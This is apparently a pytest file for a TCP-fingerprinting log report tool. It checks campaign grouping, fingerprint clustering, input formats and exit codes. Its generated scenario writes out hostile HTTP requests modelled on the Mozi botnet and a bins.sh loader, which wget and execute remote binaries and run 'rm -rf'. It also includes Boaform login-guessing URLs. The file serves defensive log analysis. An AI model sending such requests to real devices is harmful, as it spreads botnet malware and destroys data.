@@ -1,0 +1,331 @@
+"""`tcpfp report` as a command: inputs (files, gzip, stdin), format choice, outputs (tables,
+JSON, CSV), exit codes and messages, and logs written by the real `tcpfp serve`.
+
+A generated log that mixes named campaigns, unnamed exploit campaigns with
+varying addresses, ports and values, ordinary browsing from Windows and macOS
+stacks and a garbage line must come out as one pattern per campaign and one
+cluster per stack, with the counts the test wrote.  Logs written by `serve`
+(default and custom formats) must read back to the values it logged.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import json
+import random
+import socket
+import subprocess
+import sys
+
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+from servehelp import Served, exchange
+from tcpfp_cli.cli import app
+from tcpfp_cli.hextext import parse_hex
+from tcpfp_cli.logformat import compile_format
+from tcpfp_cli.logreader import TerminalProgress, read_dataframe
+from tcpfp_cli.syn import parse_syn
+
+SEED_FORMAT = ('%{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g '
+               '%{FINGERPRINT_TCP_WSCALE}g %{FINGERPRINT_TCP_OPTIONS}g %{FINGERPRINT_TCP_MSS}g "%r"')
+runner = CliRunner()
+
+
+def invoke(*args, input=None):
+    result = runner.invoke(app, ["report", *args], input=input)
+    return result.exit_code, result.stdout, result.stderr
+
+
+# --------------------------------------------------------------------------- the judged scenario
+
+SCENARIO_FORMAT = ('%h %l %u %t "%r" %>s %b %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_IP_DF}g '
+                   '%{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g "%{FINGERPRINT_TCP_OPTIONS}g" '
+                   '%{FINGERPRINT_TCP_MSS}g %{FINGERPRINT_TCP_RTT}g "%{User-Agent}i"')
+# name -> (ttl range, df, window, scale, options, mss, rtt range)
+STACKS = {
+    "router": ((44, 52), 1, 28800, 4, "2,4,8,1,3", 1406, (900_000, 4_000_000)),
+    "modem": ((44, 52), 1, 5808, 2, "2,4,8,1,3", 1452, (900_000, 4_000_000)),
+    "windows": ((108, 120), 1, 64240, 8, "2,1,3,1,1,4", 1460, (10_000, 90_000)),
+    "macos": ((50, 60), 1, 65535, 6, "2,1,3,1,1,8,4,0,0", 1460, (10_000, 90_000)),
+}
+
+
+GARBAGE_AT = 17  # line number of the garbage line
+
+
+def _ip(rng):
+    return f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+
+
+def _scenario(rng: random.Random):
+    """(lines, {campaign key: count}, {stack: count}); the campaign key is a name or a pattern."""
+    requests = []
+    for _ in range(6):
+        requests.append(("router", "Mozi", f"GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://{_ip(rng)}:"
+                         f"{rng.randrange(1024, 65535)}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+varcron HTTP/1.0"))
+    for user in ("admin", "user", "ec8", "root", "guest", "admin", "support"):
+        requests.append((rng.choice(["router", "modem"]), "Boaform",
+                         f"GET /boaform/admin/formLogin?username={user}&psd={user}{rng.randrange(99)} HTTP/1.0"))
+    for _ in range(5):  # unnamed: a query-less loader command with varying server and port
+        requests.append(("modem", "GET /dl?cd+/var;wget+http://<ip>:<port>/bins.sh;chmod+<n>+bins.sh HTTP/1.0",
+                         f"GET /dl?cd+/var;wget+http://{_ip(rng)}:{rng.randrange(1024, 65535)}/bins.sh;"
+                         f"chmod+{rng.choice([777, 755])}+bins.sh HTTP/1.0"))
+    for _ in range(4):  # unnamed: parameters with varying values, a hex session id in the path
+        requests.append(("router", "POST /cgi-bin/<hex>/diag.cgi?action=<v>&host=<v>&port=<v> HTTP/1.1",
+                         f"POST /cgi-bin/{rng.getrandbits(96):024x}/diag.cgi?action=ping&host={_ip(rng)}"
+                         f"&port={rng.randrange(1, 65535)} HTTP/1.1"))
+    for stack, count in (("windows", 9), ("macos", 8)):
+        for k in range(count):
+            path = ["/", "/index.html", "/favicon.ico"][k % 3]
+            requests.append((stack, f"GET {path} HTTP/1.1", f"GET {path} HTTP/1.1"))
+    rng.shuffle(requests)
+    lines = []
+    for stack, _, request in requests:
+        (lo, hi), df, window, scale, options, mss, (rlo, rhi) = STACKS[stack]
+        lines.append(f'{_ip(rng)} - - [01/Feb/2024:10:00:00 +0000] "{request}" 404 - {rng.randrange(lo, hi)} '
+                     f'{df} {window} {scale} "{options}" {mss} {rng.randrange(rlo, rhi)} "scanner \\"x\\""')
+    lines.insert(GARBAGE_AT - 1, "\x00\x01\x02 this is not a log line \xff")
+    campaigns: dict[str, int] = {}
+    stacks: dict[str, int] = {}
+    for stack, key, _ in requests:
+        campaigns[key] = campaigns.get(key, 0) + 1
+        stacks[stack] = stacks.get(stack, 0) + 1
+    return lines, campaigns, stacks
+
+
+def test_judged_scenario_campaigns_clusters_and_garbage(tmp_path):
+    lines, campaigns, stacks = _scenario(random.Random(5))
+    log = tmp_path / "mixed.log"
+    log.write_bytes(("\n".join(lines) + "\n").encode("latin-1"))
+    code, out, err = invoke("--json", "--format", SCENARIO_FORMAT, str(log))
+    assert code == 0, err
+    report = json.loads(out)
+    assert report["summary"]["malformed"] == 1 and report["summary"]["parsed"] == len(lines) - 1
+    assert report["malformed_lines"][0]["line"] == GARBAGE_AT
+    got = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
+    assert got == campaigns
+    by_window = {(f["FINGERPRINT_TCP_WSIZE"], f["FINGERPRINT_TCP_OPTIONS"]): f for f in report["fingerprints"]}
+    assert len(report["fingerprints"]) == len(STACKS)
+    for stack, (_, _, window, _, options, _, _) in STACKS.items():
+        assert by_window[(window, options)]["requests"] == stacks[stack], stack
+    assert by_window[(64240, "2,1,3,1,1,4")]["label"] == "Windows-like"
+    assert by_window[(65535, "2,1,3,1,1,8,4,0,0")]["label"] == "Apple-like"
+    assert by_window[(28800, "2,4,8,1,3")]["label"] == "embedded/low-memory Linux"
+    assert by_window[(28800, "2,4,8,1,3")]["rtt_outlier"] is True
+    assert by_window[(64240, "2,1,3,1,1,4")]["rtt_outlier"] is False
+    assert by_window[(64240, "2,1,3,1,1,4")]["clients"] == stacks["windows"]  # every line has its own address
+
+
+# --------------------------------------------------------------------------- inputs, formats, exit codes
+
+
+def _seed_text():
+    from pathlib import Path
+
+    return (Path(__file__).parent / "fixtures" / "seed_access.log").read_text()
+
+
+def test_tables_by_default(tmp_path):
+    log = tmp_path / "seed.log"
+    log.write_text(_seed_text())
+    code, out, _ = invoke("--format", SEED_FORMAT, str(log))
+    assert code == 0
+    assert out.splitlines()[0].startswith("13 requests from 13 lines (0 malformed, 0 blank)")
+    for title in ("Fingerprint clusters", "Campaigns", "Campaigns x fingerprint clusters"):
+        assert title in out
+    assert "embedded/low-memory Linux" in out and "Mozi" in out and "Boaform" in out
+
+
+def test_gzip_stdin_and_several_files_add_up(tmp_path):
+    text = _seed_text()
+    gz = tmp_path / "seed.log.gz"
+    gz.write_bytes(gzip.compress(text.encode()))
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, str(gz))
+    assert code == 0 and json.loads(out)["summary"]["parsed"] == 13
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "-", input=text)
+    assert code == 0 and json.loads(out)["summary"]["parsed"] == 13
+    plain = tmp_path / "seed.log"
+    plain.write_text(text)
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, str(plain), str(gz))
+    counts = {c["name"]: c["requests"] for c in json.loads(out)["campaigns"]}
+    assert code == 0 and counts == {"Boaform": 18, "Mozi": 8}
+
+
+def test_format_is_recognised_and_said_on_stderr(tmp_path):
+    log = tmp_path / "c.log"
+    log.write_text('10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /a HTTP/1.1" 200 12 "-" "curl/8"\n' * 3)
+    code, out, err = invoke("--json", str(log))
+    assert code == 0
+    assert "'combined'" in err
+    assert json.loads(out)["summary"]["format_name"] == "combined"
+    assert json.loads(out)["fingerprints"] == []  # no fingerprint fields in a combined log
+
+
+def test_unrecognised_format_asks_for_format(tmp_path):
+    log = tmp_path / "seed.log"
+    log.write_text(_seed_text())
+    code, out, err = invoke(str(log))
+    assert code == 2 and out == ""
+    assert len(err.strip().splitlines()) == 1 and "--format" in err
+
+
+@pytest.mark.parametrize("content", [b"", b"\n\n  \n"])
+def test_empty_input_exits_2(tmp_path, content):
+    log = tmp_path / "empty.log"
+    log.write_bytes(content)
+    code, _, err = invoke("--format", SEED_FORMAT, str(log))
+    assert code == 2 and len(err.strip().splitlines()) == 1
+    code, _, err = invoke(str(log))
+    assert code == 2 and len(err.strip().splitlines()) == 1
+
+
+def test_missing_file_is_one_line_and_exit_2(tmp_path):
+    code, out, err = invoke("--format", SEED_FORMAT, str(tmp_path / "nope.log"))
+    assert code == 2 and out == ""
+    assert err.strip() == f"tcpfp: {tmp_path / 'nope.log'}: No such file or directory"
+
+
+def test_bad_lines_are_counted_and_shown(tmp_path):
+    good = _seed_text().splitlines()
+    lines = [good[0], good[1][:40], "1 2 3", good[2] + " 99", "\x00\xff\x10binary\x80", good[3]]
+    log = tmp_path / "bad.log"
+    log.write_bytes(("\n".join(lines) + "\n").encode("latin-1"))
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, str(log))
+    assert code == 0
+    report = json.loads(out)
+    assert (report["summary"]["parsed"], report["summary"]["malformed"]) == (2, 4)
+    assert [m["line"] for m in report["malformed_lines"]] == [2, 3, 4, 5]
+    assert all(m["reason"] for m in report["malformed_lines"])
+    code, out, _ = invoke("--format", SEED_FORMAT, str(log))
+    assert "malformed: " in out and ":2: " in out
+
+
+def test_nothing_parsed_exits_2(tmp_path):
+    log = tmp_path / "junk.log"
+    log.write_text("junk\nmore junk\n")
+    code, _, err = invoke("--format", SEED_FORMAT, str(log))
+    assert code == 2 and "no line" in err and len(err.strip().splitlines()) == 1
+
+
+def test_bad_format_and_bad_by_exit_2(tmp_path):
+    log = tmp_path / "seed.log"
+    log.write_text(_seed_text())
+    code, _, err = invoke("--format", "%{FINGERPRINT_NOPE}g", str(log))
+    assert code == 2 and "FINGERPRINT_NOPE" in err
+    code, _, err = invoke("--format", SEED_FORMAT, "--by", "IP_DF", str(log))
+    assert code == 2 and "--by" in err
+
+
+def test_csv_top_min_count_and_by(tmp_path):
+    log = tmp_path / "seed.log"
+    log.write_text(_seed_text())
+    code, _, _ = invoke("--format", SEED_FORMAT, "--csv", str(tmp_path / "out"), "--min-count", "2", str(log))
+    assert code == 0
+    with open(tmp_path / "out" / "fingerprints.csv") as f:
+        rows = list(csv.DictReader(f))
+    assert sorted(int(r["requests"]) for r in rows) == [2, 2, 2, 4]
+    with open(tmp_path / "out" / "campaigns.csv") as f:
+        assert {r["name"]: r["requests"] for r in csv.DictReader(f)} == {"Boaform": "9", "Mozi": "4"}
+    assert {p.name for p in (tmp_path / "out").iterdir()} >= {"summary.csv", "crosstab.csv", "malformed.csv"}
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "--top", "2", str(log))
+    assert len(json.loads(out)["fingerprints"]) == 2
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "--by", "TCP_WSCALE", str(log))
+    assert {f["FINGERPRINT_TCP_WSCALE"]: f["requests"] for f in json.loads(out)["fingerprints"]} == {
+        4: 4, 5: 6, 1: 1, 2: 2}
+
+
+def test_user_campaign_file(tmp_path):
+    log = tmp_path / "seed.log"
+    log.write_text(_seed_text())
+    mine = tmp_path / "mine.tsv"
+    mine.write_text("Boa guessing\t/boaform/\tour name for it\n")
+    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "--campaigns", str(mine), str(log))
+    assert code == 0
+    assert {c["name"] for c in json.loads(out)["campaigns"]} == {"Boa guessing", "Mozi"}
+    mine.write_text("broken line without a tab\n")
+    code, _, err = invoke("--format", SEED_FORMAT, "--campaigns", str(mine), str(log))
+    assert code == 2 and "line 1" in err
+
+
+def test_progress_bar_text():
+    out = io.StringIO()
+    bar = TerminalProgress(1000, "x.log", stream=out)
+    bar.started -= 1  # pretend a second went by
+    bar(500, 12345)
+    bar.close()
+    assert "50%" in out.getvalue() and "12,345 lines" in out.getvalue()
+
+
+def test_no_progress_bar_when_stderr_is_not_a_terminal(tmp_path):
+    log = tmp_path / "seed.log"
+    log.write_text(_seed_text() * 200)
+    done = subprocess.run([sys.executable, "-m", "tcpfp_cli", "report", "--format", SEED_FORMAT, str(log)],
+                          capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0 and done.stderr == ""
+
+
+# --------------------------------------------------------------------------- round trip through serve
+
+CUSTOM_FORMATS = [
+    '%a %>s "%r" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g '
+    '%{FINGERPRINT_TCP_OPTIONS}g %{FINGERPRINT_TCP_MSS}g %{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_SAVED_SYN}g',
+    '[%t] %h "%{User-Agent}i" rtt=%{FINGERPRINT_TCP_RTT}g "%r" %{FINGERPRINT_ITTL}g/%{FINGERPRINT_HOPS}g '
+    '"%{FINGERPRINT_P0F}g" %{FINGERPRINT_IP_DF}g',
+]
+REQUESTS = [b"GET /a?x=1 HTTP/1.0\r\nUser-Agent: t\"q\\ 1\r\n\r\n", b'GET /"quoted"\\path HTTP/1.0\r\n\r\n',
+            b"GET /\xe9t\xe9 HTTP/1.0\r\nUser-Agent: \x01\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"]
+
+
+def _client(ttl, mss, rcvbuf):
+    def apply(s):
+        s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, mss)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+    return apply
+
+
+@pytest.mark.parametrize("log_format", ["tcpfp", *CUSTOM_FORMATS])
+def test_serve_logs_read_back_to_what_serve_logged(tmp_path, log_format):
+    with Served(tmp_path, log_format=log_format, wait_host="127.0.0.1") as server:
+        for n, payload in enumerate(REQUESTS * 2):
+            exchange("127.0.0.1", server.port, payload,
+                     before_connect=_client(40 + n, 1000 + 40 * n, 4096 * (n + 1)))
+        lines = server.lines(len(REQUESTS) * 2)
+    assert len(lines) == len(REQUESTS) * 2
+    fmt = compile_format(log_format)
+    expected = [fmt.parse(line) for line in lines]
+    df, stats = read_dataframe([str(server.log)], fmt)
+    assert stats.parsed == len(lines) and stats.malformed == 0
+    ints = {d.column for d in fmt.directives if d.kind == "int"}
+    for column in fmt.columns:
+        got = [None if pd.isna(v) else (str(int(v)) if column in ints else v) for v in df[column].astype(object)]
+        assert got == [r[column] for r in expected], column
+    if "FINGERPRINT_SAVED_SYN" in fmt.columns:
+        for k in range(len(df)):
+            syn = parse_syn(parse_hex(df["FINGERPRINT_SAVED_SYN"][k]))
+            assert df["FINGERPRINT_IP_TTL"][k] == syn.ttl == 40 + k
+            assert df["FINGERPRINT_TCP_WSIZE"][k] == syn.window
+            assert df["FINGERPRINT_TCP_MSS"][k] == syn.mss
+            assert df["FINGERPRINT_TCP_OPTIONS"][k] == syn.options_text
+    code, out, err = invoke("--json", "--format", log_format, str(server.log))
+    assert code == 0, err
+    report = json.loads(out)
+    assert report["summary"]["parsed"] == len(lines)
+    patterns = {c["pattern"]: c["requests"] for c in report["campaigns"]}
+    assert patterns["<tls>"] == 2 and patterns['GET /"quoted"\\path HTTP/1.0'] == 2
+    assert patterns["GET /a?x=<v> HTTP/1.0"] == 2
+
+
+def test_default_serve_log_is_recognised_without_format(tmp_path):
+    with Served(tmp_path) as server:
+        exchange("127.0.0.1", server.port, REQUESTS[0])
+        server.lines(1)
+    code, out, err = invoke("--json", str(server.log))
+    assert code == 0 and "'tcpfp'" in err
+    (fp,) = json.loads(out)["fingerprints"]
+    assert fp["FINGERPRINT_TCP_OPTIONS"] == "2,4,8,1,3" and fp["label"] in ("Linux-like", "embedded/low-memory Linux")
+    assert fp["clients"] == 1
